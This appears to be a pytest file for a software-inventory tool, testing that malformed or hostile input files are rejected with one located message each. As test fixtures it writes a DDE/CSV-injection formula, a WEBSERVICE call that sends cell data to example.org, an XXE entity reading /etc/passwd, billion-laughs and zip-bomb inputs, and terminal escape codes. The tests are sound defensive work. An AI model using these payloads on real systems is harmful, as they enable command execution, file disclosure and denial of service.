"""Files that are not what they should be: one message a file or a row, with its place, and never a traceback."""

import shutil
import zipfile
from pathlib import Path
from typing import Any

import pytest
import xlsxwriter

import backtable.inventory._found as found_module
from backtable.errors import InputError
from backtable.inventory import Mapped, Source, TableMapping, proposed, read_estate
from backtable.inventory import _source as source_module
from backtable.inventory.entitlements import read_entitlements
from backtable.licensing.project import read_project

DATA = Path(__file__).parent.parent / "data"
RVTOOLS = DATA / "rvtools" / "BillSampleNextRvtoolsFinal.xlsx"
RIGHTS = DATA / "optisam" / "products_acquiredRights.csv"


def problem(path: Path | Mapped) -> str:
    with pytest.raises(InputError) as caught:
        read_estate([path])
    (only,) = caught.value.problems
    assert only.place.file == (path.path if isinstance(path, Mapped) else path).name
    return str(only)


def machines(*paths: Path | Mapped) -> dict[str, dict[str, Any]]:
    return {row["machine"]: row for row in read_estate(paths).machines.to_pyarrow().to_pylist()}


@pytest.mark.parametrize("part", [0.1, 0.5, 0.98])
def test_a_truncated_workbook(part: float, tmp_path: Path) -> None:
    path = tmp_path / "cut.xlsx"
    whole = RVTOOLS.read_bytes()
    path.write_bytes(whole[: int(len(whole) * part)])
    assert "the workbook cannot be read" in problem(path)
    with pytest.raises(InputError, match="the workbook cannot be read"):
        read_entitlements(path)


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "utf-16-le", "cp1252"])
def test_a_real_export_in_another_encoding_and_with_another_delimiter(encoding: str, tmp_path: Path) -> None:
    text = (DATA / "optisam" / "equipment_server.csv").read_text(encoding="utf-8-sig")
    usual = machines(DATA / "optisam" / "equipment_server.csv")
    first = next(iter(usual))
    path = tmp_path / "servers.csv"
    path.write_bytes(text.replace(first, "Größe-1").replace(first.upper(), "Größe-1").encode(encoding))
    assert set(machines(path)) == (set(usual) - {first}) | {"größe-1"}
    path.write_bytes(text.replace(";", ",").encode(encoding))
    assert "no inventory that is known" in problem(path)


def test_a_letter_of_another_encoding_late_in_a_long_file(tmp_path: Path) -> None:
    path = tmp_path / "long.csv"
    path.write_bytes(b"server,os\n" + b"".join(b"m%d,Linux\n" % number for number in range(20_000)) + "müller,Linux\n".encode("cp1252"))
    found = machines(Mapped(path))
    assert len(found) == 20_001
    assert "müller" in found


def test_the_delimiter_is_told_outside_quotes(tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    path.write_text('server;"notes, remarks, and, more";cores\na;"x;y";4\n')
    mapping = TableMapping("machines", {"machine": "server", "cores": "cores"})
    assert machines(Mapped(path, (mapping,)))["a"]["cores"] == 4


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_a_file_read_as_two_tables_has_its_rows_once(ending: str, tmp_path: Path) -> None:
    rows = [("server", "cores", "software"), ("a", "4", "X"), ("", "2", "Y"), ("b", "many", "Z"), ("c", "8", "")]
    path = tmp_path / f"list.{ending}"
    path.write_text("\n".join(";".join(row) for row in rows) + "\n")
    if ending == "xlsx":
        with xlsxwriter.Workbook(path) as workbook:
            sheet = workbook.add_worksheet()
            for number, row in enumerate(rows):
                sheet.write_row(number, 0, row)
    tables = (
        TableMapping("installations", {"machine": "server", "title": "software"}),
        TableMapping("machines", {"machine": "server", "cores": "cores"}),
    )
    estate = read_estate([Mapped(path, tables)])
    assert (estate.sources[0].rows, estate.sources[0].left_out) == (4, 3)
    assert len({item.place for item in estate.left_out}) == len(estate.left_out) == 3
    assert sorted(estate.machines.to_pyarrow().column("machine").to_pylist()) == ["a", "c"]


@pytest.mark.parametrize(
    ("written", "count"),
    [("1,024", 1024), ("1,5", None), ("1,024,000", 1_024_000), ("2.000", None), ("2.0", 2), ("2.5", None), ("1,02", None), ("-4", None), ("1e3", 1000), ("nan", None), ("inf", None)],
)
def test_a_count_is_never_guessed(written: str, count: int | None, tmp_path: Path) -> None:
    text, book = tmp_path / "list.csv", tmp_path / "list.xlsx"
    text.write_text(f'server;cores\nok;1\na;"{written}"\n')
    with xlsxwriter.Workbook(book) as workbook:
        sheet = workbook.add_worksheet()
        for number, row in enumerate((("server", "cores"), ("ok", "1"), ("a", written))):
            sheet.write_row(number, 0, row)
    for path in (text, book):
        estate = read_estate([Mapped(path)])
        rows = {row["machine"]: row["cores"] for row in estate.machines.to_pyarrow().to_pylist()}
        assert rows == ({"ok": 1} if count is None else {"ok": 1, "a": count}), path
        assert len(estate.left_out) == (count is None)
        assert estate.sources[0].rows == 2


def test_a_cell_too_many_or_too_few(tmp_path: Path) -> None:
    lines = (DATA / "optisam" / "equipment_server.csv").read_text(encoding="utf-8-sig").splitlines()
    usual = machines(DATA / "optisam" / "equipment_server.csv")
    path = tmp_path / "servers.csv"
    path.write_text("\n".join([lines[0], lines[1] + ";x", lines[2].rpartition(";")[0], *lines[3:]]))
    estate = read_estate([path])
    assert len(machines(path)) == len(usual) - 2
    assert [(item.place, item.reason.split(" and")[0]) for item in estate.left_out] == [
        ("servers.csv:2", f"the row has {lines[0].count(';') + 2} cells"),
        ("servers.csv:3", f"the row has {lines[0].count(';')} cells"),
    ]
    assert estate.sources[0].rows == len(lines) - 1


def test_a_page_of_the_web_that_is_called_a_table(tmp_path: Path) -> None:
    for name, start in (("list.csv", "<!DOCTYPE html>\n<html><body>Sign in</body></html>"), ("list.xls", "<html xmlns:x='urn'><table><tr><td>1</td></tr></table></html>")):
        path = tmp_path / name
        path.write_text(start)
        assert "this is a page of the web (HTML), not a table; export the table itself" in problem(path)


def test_macros_and_formulas_are_never_evaluated(tmp_path: Path) -> None:
    path = tmp_path / "list.xlsm"
    with xlsxwriter.Workbook(path.with_suffix(".xlsx")) as book:
        sheet = book.add_worksheet("Servers")
        sheet.write_row(0, 0, ["server", "cores", "os"])
        sheet.write_row(1, 0, ["a", 4, "Linux"])
        sheet.write_formula(2, 0, '=WEBSERVICE("http://example.org/"&A2)', value="b")
        sheet.write_formula(2, 1, "=B2*1000", value=8)
        sheet.write_formula(3, 0, "=CMD|' /C calc'!A0", value="=CMD|' /C calc'!A0")
        sheet.write_string(4, 0, "=1+1")
    path.with_suffix(".xlsx").rename(path)
    with zipfile.ZipFile(path, "a") as packed:
        packed.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 not run")
    found = machines(Mapped(path))
    assert {name: row["cores"] for name, row in found.items()} == {"a": 4, "b": 8, "=cmd|' /c calc'!a0": None, "=1+1": None}


def test_a_workbook_that_unpacks_to_too_much(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("xl/worksheets/sheet1.xml", b"0" * (9 << 20))
    monkeypatch.setattr(source_module, "_LARGEST", 8 << 20)
    assert path.stat().st_size < 20_000
    assert "the workbook unpacks to more than" in problem(path)
    monkeypatch.setattr(source_module, "_LARGEST", 16 << 20)
    assert "the workbook cannot be read" in problem(path)


def test_a_workbook_that_lies_about_its_size(tmp_path: Path) -> None:
    path = tmp_path / "lie.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("xl/workbook.xml", b"0" * (1 << 20))
    raw = path.read_bytes()
    path.write_bytes(raw.replace((1 << 20).to_bytes(4, "little"), (10).to_bytes(4, "little")))
    assert "the workbook cannot be read" in problem(path)


BOMBS = {
    "laughs": '<!DOCTYPE z [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><REQUEST><CONTENT>&b;</CONTENT></REQUEST>',
    "outside": '<!DOCTYPE z [<!ENTITY a SYSTEM "file:///etc/passwd">]><REQUEST><CONTENT>&a;</CONTENT></REQUEST>',
    "deep": "<REQUEST>" + "<a>" * 100_000,
    "torn": "<REQUEST><CONTENT><HARDWARE>",
}


@pytest.mark.parametrize("name", BOMBS)
def test_xml_that_would_do_harm(name: str, tmp_path: Path) -> None:
    path = tmp_path / f"{name}.xml"
    path.write_text(BOMBS[name])
    assert "this is not XML that can be read" in problem(path)


@pytest.mark.parametrize("content", ['{"content": {', "[" * 100_000, '{"content": 5', '[{"name":'])
def test_json_that_is_none(content: str, tmp_path: Path) -> None:
    path = tmp_path / "torn.json"
    path.write_text(content)
    assert path.name in problem(path)


@pytest.mark.parametrize("content", ['{"content": 5}', "[1, 2]", "{}", '"text"', "null"])
def test_json_of_another_shape(content: str, tmp_path: Path) -> None:
    path = tmp_path / "odd.json"
    path.write_text(content)
    assert "no inventory that is known" in problem(path)


def test_json_whose_sections_have_another_shape_leaves_the_machine_out(tmp_path: Path) -> None:
    path = tmp_path / "odd.json"
    path.write_text('{"content": {"hardware": 7, "softwares": "x"}}')
    assert [item.reason for item in read_estate([path]).left_out] == ["the machine has no name"]


def test_an_empty_folder_and_no_file_at_all(tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    (tmp_path / "empty" / ".hidden").write_text("x")
    with pytest.raises(InputError, match="there is no file in the folder"):
        read_estate([DATA / "oracle", tmp_path / "empty"])
    with pytest.raises(InputError, match="there is no file to read"):
        read_estate([])


def test_a_folder_with_foreign_files_gets_one_message_a_file(tmp_path: Path) -> None:
    shutil.copytree(DATA / "oracle", tmp_path / "in")
    (tmp_path / "in" / "notes.txt").write_text("call Bob\n")
    (tmp_path / "in" / "photo.jpg").write_bytes(b"\xff\xd8\xff\xe0" + bytes(range(256)) * 10)
    (tmp_path / "in" / "sub").mkdir()
    (tmp_path / "in" / "sub" / "letter.docx").write_bytes(b"PK\x03\x04 torn")
    with pytest.raises(InputError) as caught:
        read_estate([tmp_path / "in"])
    assert [item.place.file for item in caught.value.problems] == ["notes.txt", "photo.jpg", "letter.docx"]
    assert sum("known are" in item.remedy for item in caught.value.problems) == 1


def test_a_file_that_is_not_there_a_folder_in_its_place_and_one_that_vanishes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert "cannot be read (No such file" in problem(tmp_path / "absent.csv")
    (tmp_path / "folder.csv").mkdir()
    assert "cannot be read (Is a directory)" in problem(Mapped(tmp_path / "folder.csv"))
    with pytest.raises(InputError, match=r"cannot be read \(Is a directory\)"):
        read_entitlements(tmp_path / "folder.csv")
    path = tmp_path / "list.csv"
    path.write_text("server,cores\na,4\n")

    def gone(connection: Any, source: Any, wanted: Any) -> Any:
        path.unlink()
        return open_table(connection, source, wanted)

    open_table = found_module.open_table
    monkeypatch.setattr(found_module, "open_table", gone)
    assert "list.csv: cannot be read" in problem(Mapped(path))


def test_very_long_names_and_signs_that_steer_a_terminal(tmp_path: Path) -> None:
    long = "x" * 50_000
    text = f"server,software\n{long},Tool\na\x00b,\x1b[31mRed\x07 alert\x7f\n"
    (tmp_path / "list.csv").write_text(text)
    rows = read_estate([Mapped(tmp_path / "list.csv")]).installations.to_pyarrow().to_pylist()
    titles = {row["machine"]: row["title"] for row in rows}
    assert titles[long] == "Tool"
    assert titles["a b"].split() == ["[31mRed", "alert"]
    for name, title in titles.items():
        assert not any(ord(sign) < 32 or ord(sign) == 127 for sign in name + title)


def test_the_same_machine_in_three_sources_of_other_programs_counts_once(tmp_path: Path) -> None:
    (tmp_path / "list.csv").write_text("server,cores,serial number\nDBHOST1,64,ABC\n")
    (tmp_path / "Devices.csv").write_text("SourceKey,SystemName,OperatingSystem,ProcessorCount,CoreCount\n1,DbHost1,RHEL,1,2\n")
    estate = read_estate([DATA / "oracle" / "dbhost1-lms_cpuq.txt", Mapped(tmp_path / "list.csv"), tmp_path / "Devices.csv"])
    (row,) = estate.machines.to_pyarrow().to_pylist()
    assert (row["processors"], row["cores"], row["serial"]) == (2, 4, "ABC")
    assert estate.remarks == (
        "1 machine stands in more than one file: each counts once",
        "rows of dbhost1 state different processors (from 1 to 2; 2 counts) and cores (from 2 to 64; 4 counts): of each figure the first that is stated, in the order of the files",
    )


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "the file is empty"),
        (b"<html><body>Sign in</body></html>", "no entitlements that are known"),
        ("SKU;SWIDTag\n1;2\n".encode("utf-16"), "no entitlements that are known"),
        (b'<!DOCTYPE z [<!ENTITY a "b">]><bom xmlns="http://cyclonedx.org/schema/bom/1.5">&a;</bom>', "this is not XML"),
        (b'{"bomFormat": "CycloneDX", "components": [', "this is not JSON"),
        (bytes(range(256)), "no entitlements that are known"),
    ],
)
def test_entitlements_that_are_none_get_one_message(content: bytes, message: str, tmp_path: Path) -> None:
    path = tmp_path / "rights.dat"
    path.write_bytes(content)
    with pytest.raises(InputError, match=message) as caught:
        read_entitlements(path)
    assert len(caught.value.problems) == 1


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "utf-16-le", "cp1252"])
def test_real_entitlements_in_another_encoding(encoding: str, tmp_path: Path) -> None:
    usual = read_entitlements(RIGHTS)
    path = tmp_path / "rights.csv"
    path.write_bytes(RIGHTS.read_text(encoding="utf-8-sig").encode(encoding))
    found = read_entitlements(path)
    assert [item.quantity for item in found.entitlements] == [item.quantity for item in usual.entitlements]
    assert usual.entitlements


def test_what_is_proposed_of_an_unknown_table_can_be_put_into_the_estate_file(tmp_path: Path) -> None:
    (tmp_path / "x.csv").write_text("Server;Product Name;Cores\na;Tool;4\n")
    said = problem(tmp_path / "x.csv")
    proposal = said.partition("mean: put ")[2].partition(" in its place")[0]
    (tmp_path / "estate.yaml").write_text(f"estate: X\nas_of: 2026-03-12\nsources:\n  - {proposal}\n")
    (entry,) = read_project(tmp_path / "estate.yaml").files
    assert isinstance(entry, Mapped)
    assert entry.tables == proposed(Source(tmp_path / "x.csv"))
    (tmp_path / "y.csv").write_text("Where;What\na;Tool\n")
    assert "its headings are Where, What" in problem(tmp_path / "y.csv")
